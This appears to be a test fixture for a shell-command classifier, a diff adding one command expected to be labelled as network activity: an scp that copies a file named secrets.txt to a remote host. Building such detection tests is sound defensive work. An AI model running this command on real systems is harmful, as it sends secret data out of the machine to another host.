@@ -1,0 +1,2 @@
+# expect: SH-NETWORK
+scp secrets.txt user@host:/tmp/
